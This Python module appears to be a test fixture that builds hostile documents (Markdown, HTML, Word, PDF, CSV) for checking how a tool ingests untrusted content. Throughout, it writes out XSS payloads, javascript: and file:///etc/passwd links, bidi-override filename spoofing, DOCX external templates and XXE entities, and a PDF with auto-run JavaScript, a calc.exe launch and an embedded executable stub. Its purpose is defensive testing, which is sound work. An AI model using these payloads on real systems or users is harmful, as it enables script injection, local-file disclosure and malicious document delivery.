"""Documents that try to run, to fetch or to confuse, in every form; all they lead to is one address, the bait."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

RUN = "window.__ran=(window.__ran||0)+1"
TURNED = "\u202egnp.txt\u2066\u200b\u200e\ufeff"
"""Turns the direction of what follows it, with signs that nobody sees."""
WORD_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LINK_SPACE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_SPACE = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """A document under the name that its maker gave it; `make` takes the bait."""

    name: str
    make: Callable[[str], bytes]


def payloads(bait: str) -> tuple[str, ...]:
    """Return texts that are code, or fetch something, wherever they are taken for more than words."""
    return (
        f"<script>{RUN}</script>",
        f"<img src={bait}/img onerror={RUN}>",
        f"<svg onload={RUN}><iframe src={bait}/frame>",
        f"[x](javascript:{RUN})",
        f"[x](data:text/html,<script>{RUN}</script>)",
        "[x](file:///etc/passwd)",
        f"![x]({bait}/picture.png)",
        f"<link rel=stylesheet href={bait}/style.css>",
        f"{TURNED}\u0007\u001b[31m :red[x] $$\\href{{javascript:{RUN}}}{{x}}$$",
    )


def article(bait: str) -> bytes:
    """Return a Markdown article with a payload in its head, title, cells, labels, claims and reference list."""
    texts = payloads(bait)
    head = [
        f"title: '{texts[0]} {TURNED}'",
        f"author: '{texts[1]}'",
        f"site: '{texts[2]}'",
        f"url: {bait}/page",
        f"tags: ['{texts[3]}', '{texts[7]}']",
    ]
    claims = [f"据远山研究所报道，{text} 有 {number + 11}% 的素材可以用。" for number, text in enumerate(texts)]
    table = ["| 名称 | 说明 |", "|---|---|", *(f"| {text.replace('|', '/')} | 15% |" for text in texts)]
    links = [f"- [{text.replace('[', '(').replace(']', ')')}]({bait}/listed)" for text in texts]
    listed = ["## 参考资料", "", *links, "- [x](javascript:alert)", "- [x](https://tracker.example/?a=<script>)"]
    lines = ["---", *head, "---", "", f"# {texts[0]}", "", *claims, "", *table, "", *texts, "", *listed, ""]
    return "\n".join(lines).encode()


def report(bait: str) -> bytes:
    """Return a research report with a payload in every part, two unknown sections of one heading among them."""
    texts = payloads(bait)
    claims = [
        f"### {number}. {text}\n\n**来源**：\n- [{text}]({bait}/claim)\n- [远山]({bait}/b)（{text}）\n"
        f"**可信度**：高（{text}）\n\n{text}\n"
        for number, text in enumerate(texts, 1)
    ]
    rows = [f"| {text.replace('|', '/')} | {bait}/row | 中 | {text.replace('|', '/')} |" for text in texts]
    parts = (
        f"# {texts[1]} {TURNED}\n\n**调研日期**：2026-02-10\n**目标账号**：{texts[2]}\n",
        f"## 核心洞察\n\n**{texts[0]}**\n\n{texts[6]}\n",
        "## 关键事实\n\n" + "\n".join(claims),
        f"## {texts[1]}\n\n{texts[2]}\n",
        f"## {texts[1]}\n\n{texts[7]}\n",
        f"## 反面与争议\n\n### 1. 反驳：{texts[1]}\n\n**反驳观点**：{texts[0]}\n\n**我的回应**：\n\n{texts[3]}\n",
        f"## 竞品分析\n\n### {texts[2]}\n\n**{texts[0]}**：\n- {texts[1]}\n",
        f"## 建议的切入角度\n\n### 推荐角度：《{texts[1]}》\n\n**核心观点（一句话）**：\n{texts[0]}\n\n"
        f"**潜在风险**：\n\n1. **{texts[1]}**：{texts[3]}\n\n**建议的视觉呈现**：\n\n1. **{texts[0]}**：{texts[6]}\n",
        "## 数据来源与可信度评级\n\n| 信息来源 | URL | 可信度 | 备注 |\n|---|---|---|---|\n" + "\n".join(rows) + "\n",
        f"---\n\n**调研完成时间**：2026-02-10 18:30\n**下一步建议**：\n1. 关注{texts[1]}（{texts[0]}）\n",
    )
    return "\n".join(parts).encode()


def web_page(bait: str) -> bytes:
    """Return a page that runs, frames, refreshes, preloads and rebases; what it says is one sentence."""
    said = "<p>据远山研究所报道，公开视频中只有 15% 适合训练，其余的画质太低或者没有授权，只好去买。</p>" * 4
    return f"""<!DOCTYPE html><html><head><title>{"x<script>" + RUN}</script>素材</title><base href="{bait}/base/">
<meta http-equiv="refresh" content="0;url={bait}/refresh"><link rel="preload" as="script" href="{bait}/preload.js">
<link rel="canonical" href="javascript:{RUN}"><meta name="author" content="&lt;img src=x onerror={RUN}&gt;">
<script src="{bait}/a.js"></script><style>@import "{bait}/b.css"; body {{ background: url({bait}/c.png) }}</style>
</head><body onload="{RUN}"><article><h1>素材 <img src="{bait}/d.png" srcset="{bait}/e.png 2x" onerror="{RUN}"></h1>
{said}<iframe src="{bait}/frame"></iframe><object data="{bait}/object"></object><video poster="{bait}/poster"></video>
<p><a href="javascript:{RUN}">x</a> <a href="data:text/html,x">y</a> <a href="{bait}/link">z</a></p>{said}
</article></body></html>""".encode()


def word_file(bait: str) -> bytes:
    """Return a Word file with a template, a picture, a chunk and a link from outside, and fields that fetch."""
    outside = "".join(
        f'<Relationship Id="r{number}" Type="{LINK_SPACE}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(
            (
                ("image", f"{bait}/picture.png"),
                ("attachedTemplate", f"{bait}/template.dotm"),
                ("aFChunk", f"{bait}/chunk.html"),
                ("hyperlink", f"javascript:{RUN}"),
                ("image", "file:///etc/hostname"),
            )
        )
    )
    picture = (
        '<w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="r{}"/></w:drawing>'
    )
    body = (
        f"<w:p><w:r><w:t>据远山研究所报道，只有 15% 适合训练。&lt;script&gt;{RUN}&lt;/script&gt;</w:t></w:r></w:p>"
        f"<w:p><w:r>{picture.format(0)}</w:r><w:r>{picture.format(4)}</w:r></w:p>"
        f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE {bait}/field.png"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        f'<w:p><w:hyperlink r:id="r3"><w:r><w:t>这里</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id="r2"/>'
    )
    document = f'<w:document xmlns:w="{WORD_SPACE}" xmlns:r="{LINK_SPACE}"><w:body>{body}</w:body></w:document>'
    return packed(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE_SPACE}"><Relationship Id="r1" '
            f'Type="{LINK_SPACE}/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": document,
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE_SPACE}">{outside}</Relationships>',
        }
    )


def word_file_with_entities(bait: str) -> bytes:
    """Return a Word file whose XML asks for a DTD and for entities from outside."""
    doctype = (
        f'<!DOCTYPE x SYSTEM "{bait}/x.dtd" [<!ENTITY e SYSTEM "{bait}/entity"><!ENTITY % p SYSTEM "{bait}/p">%p;]>'
    )
    body = f'<w:document xmlns:w="{WORD_SPACE}"><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>'
    return packed({"word/document.xml": doctype + body})


def pdf(bait: str) -> bytes:
    """Return a PDF that runs a script at opening, fetches, starts a program and carries a file."""
    words = b"BT /F1 18 Tf 20 100 Td (According to Far Hill Institute, 15% of the footage is usable.) Tj ET"
    uri = f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ({bait}/uri) >> >>"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('"
        f"{bait}/js'\\)) /Next << /S /GoToR /F << /FS /URL /F ({bait}/far.pdf) >> /D [0 /Fit] >> >> "
        f"/AA << /WC << /S /SubmitForm /F << /FS /URL /F ({bait}/form) >> >> >> "
        "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 200] /Contents 4 0 R "
        f"/Resources << /Font << /F1 5 0 R >> >> /Annots [{uri}] /AA << /O << /S /Launch /F (calc.exe) >> >> >>",
        f"<< /Length {len(words)} >>\nstream\n{words.decode()}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    ]
    return pdf_of(objects)


def endless_pdf(_: str) -> bytes:
    """Return a PDF whose tree of pages says that there are a billion, and leads back into itself."""
    return pdf_of(
        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000 /Parent 2 0 R >>"]
    )


def pdf_of(objects: list[str]) -> bytes:
    """Return a PDF of numbered objects, the first its catalogue."""
    file, places = io.BytesIO(), []
    file.write(b"%PDF-1.7\n")
    for number, written in enumerate(objects, 1):
        places.append(file.tell())
        file.write(f"{number} 0 obj\n{written}\nendobj\n".encode())
    start = file.tell()
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    file.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{rows}".encode())
    file.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF".encode())
    return file.getvalue()


def packed(parts: dict[str, str] | dict[str, bytes]) -> bytes:
    """Return a ZIP of parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return file.getvalue()


def hot_list(bait: str) -> bytes:
    """Return a hot list with a payload for each entry."""
    entries = [f"{number}. {text} 热点 {number}（热度 {number} 万）" for number, text in enumerate(payloads(bait), 1)]
    return "\n".join([f"# {payloads(bait)[1]} 2026-02-11", "", *entries, ""]).encode()


def comments(bait: str) -> bytes:
    """Return comments of a MediaCrawler table with a payload each, as words and as the viewer's name."""
    lines = ["comment_id,create_time,aweme_id,content,user_id,nickname,avatar,like_count"]
    for number, text in enumerate(payloads(bait), 1):
        quoted = text.replace('"', "'")
        said = f"{quoted} 是怎么做的？"
        lines.append(f'76000{number},1770588152,7604360386431994906,"{said}",u{number},"{quoted}",{bait}/a,{number}')
    return "\n".join([*lines, ""]).encode()


READABLE = (
    Hostile("article.md", article),
    Hostile("page.html", web_page),
    Hostile("page.md", web_page),
    Hostile("letter.docx", word_file),
    Hostile("brief.pdf", pdf),
    Hostile("report.md", report),
)
"""What comes in as the words that it holds."""
